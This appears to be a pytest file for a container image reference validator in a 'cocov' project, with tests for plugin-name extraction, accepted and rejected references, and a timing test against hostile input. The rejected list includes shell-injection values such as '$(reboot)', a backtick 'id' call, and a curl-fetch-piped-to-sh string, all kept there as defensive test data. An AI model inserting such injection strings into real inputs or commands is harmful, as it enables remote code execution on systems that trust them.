"""Tests for cocov.manifest.images: plugin names and image references."""

import random
import time

import pytest

from cocov.manifest import clean_plugin_name, images, parse_manifest
from tests.cocov.manifest.helpers import HEX64, assert_invalid, dump, header


# ------------------------------------------------------------------ plugin names


@pytest.mark.parametrize(
    ("image", "name"),
    [
        ("cocov/rubocop:v0.1", "cocov/rubocop"),
        ("cocov/rubocop", "cocov/rubocop"),
        ("ghcr.io:443/org/img:tag", "org/img"),
        ("ghcr.io/org/img", "org/img"),
        ("localhost:5000/img:1", "img"),
        ("localhost/img", "img"),
        ("org/img@sha256:abc", "org/img"),
        ("org/img:1.2@sha256:abc", "org/img"),
        ("registry.example.com:5000/a/b/c:latest", "a/b/c"),
        ("rubocop", "rubocop"),
        ("rubocop:latest", "rubocop"),
        ("ghcr.io", "ghcr.io"),  # a lone component is a repository, not a host
        ("my_org/img", "my_org/img"),
    ],
)
def test_clean_plugin_name(image, name):
    assert clean_plugin_name(image) == name


def test_check_keeps_plugin_as_written():
    check = parse_manifest(header("checks: [{plugin: 'ghcr.io/org/img:v2'}]\n")).checks[0]
    assert (check.plugin, check.name) == ("ghcr.io/org/img:v2", "org/img")


# ------------------------------------------------------------- 3. image references

VALID_PLUGINS = [
    ("cocov/rubocop:v0.1", "cocov/rubocop"),
    ("cocov/rubocop", "cocov/rubocop"),
    ("ghcr.io:443/org/img:tag", "org/img"),
    ("ghcr.io/org/img", "org/img"),
    ("localhost:5000/img:1", "img"),
    ("localhost/img", "img"),
    ("localhost", "localhost"),
    (f"org/img@sha256:{HEX64}", "org/img"),
    (f"org/img:1.2@sha256:{HEX64}", "org/img"),
    ("registry.example.com:5000/a/b/c:latest", "a/b/c"),
    ("Registry.Example.COM/a", "a"),
    ("my-registry:5000/a", "a"),
    ("[::1]:5000/img:1", "img"),
    ("rubocop", "rubocop"),
    ("ghcr.io", "ghcr.io"),
    ("my_org/img", "my_org/img"),
    ("a__b/c-d.e", "a__b/c-d.e"),
    ("a--b/c", "a--b/c"),  # the reference grammar allows runs of dashes
    ("img:V1.0-RC_2", "img"),  # uppercase is fine in a tag
    ("img:_x", "img"),
    ("img:" + "t" * 128, "img"),
    ("a" * 255, "a" * 255),
    ("a1/" + "b/" * 120 + "c", "a1/" + "b/" * 120 + "c"),
]


@pytest.mark.parametrize(("plugin", "name"), VALID_PLUGINS)
def test_valid_plugins(plugin, name):
    check = parse_manifest(dump({"checks": [{"plugin": plugin}]})).checks[0]
    assert (check.plugin, check.name) == (plugin, name)
    assert clean_plugin_name(plugin) == name


INVALID_PLUGINS = [
    "a/b$(reboot)",
    "a/c`id`&&true",
    "cocov/x;curl${IFS}evil.sh|sh",
    "a/b|c",
    "a/b>c",
    "a/b&c",
    "a/b'c",
    'a/b"c',
    "a/b\\c",
    "a/b#c",
    "a/b?x",
    "a/b*",
    "$(x)",
    "http://a/b",
    "Cocov/rubocop",
    "cocov/RuboCop",
    "cocov/a b",
    "--privileged",
    "-a",
    "a-",
    "a.",
    "a..b",
    "a___b",
    "a//b",
    "/a",
    "a/",
    "a:",
    "a:-tag",
    "a:.tag",
    "a:tag:tag",
    "a:" + "t" * 129,
    "a@sha256:abc",
    "a@sha256:" + "A" * 64,
    "a@sha512:" + "0" * 128,
    "a@",
    "@sha256:" + HEX64,
    "localhost:abc/img",
    "ex ample.com/a",
    "-x.com/a",
    "x-.com/a",
    "é/a",
    "ｃocov/a",
    ":v1",
]


@pytest.mark.parametrize("plugin", INVALID_PLUGINS)
def test_invalid_plugins(plugin):
    echoed = plugin if len(plugin) <= 100 else plugin[:100] + "…"
    assert_invalid(dump({"checks": [{"plugin": plugin}]}), f"checks[0].plugin: invalid image reference `{echoed}'")


@pytest.mark.parametrize(
    ("plugin", "extra"),
    [
        ("a" * 256, f"checks[0].plugin: invalid image reference `{'a' * 100}…' (longer than 255 characters)"),
        ("a\nb", "checks[0].plugin: invalid image reference `a\\x0ab'"),
        ("a\tb", "checks[0].plugin: invalid image reference `a\\x09b'"),
        ("x" * 90 + "\x1b" * 20, "checks[0].plugin: invalid image reference `" + "x" * 90 + "\\x1b" * 10 + "…'"),
    ],
)
def test_invalid_plugin_messages(plugin, extra):
    assert_invalid(dump({"checks": [{"plugin": plugin}]}), extra)


def test_image_reference_check_is_fast_on_hostile_input():
    rng = random.Random(7)
    candidates = ["a" + "-" * 253 + "!", "a." * 127 + "!", "a-" * 127 + ":", "a" + ".a-" * 84 + "/", "[" + ":" * 253]
    candidates += ["".join(rng.choice("aA0.-_:/@[]") for _ in range(255)) for _ in range(2000)]
    started = time.perf_counter()
    for candidate in candidates:
        images._valid_image_reference(candidate)
    assert time.perf_counter() - started < 1
